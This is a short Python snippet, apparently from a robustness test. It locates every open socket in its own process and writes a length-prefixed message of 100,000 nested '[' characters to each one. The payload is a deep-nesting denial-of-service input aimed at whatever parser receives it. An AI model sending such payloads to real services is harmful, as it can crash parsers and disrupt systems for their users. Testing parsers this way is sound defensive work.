# Sends a message of a hundred thousand levels.
import gc, socket, struct
for one in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
    try:
        one.sendall(struct.pack("!I", 100_000) + b"[" * 100_000)
    except OSError:
        pass
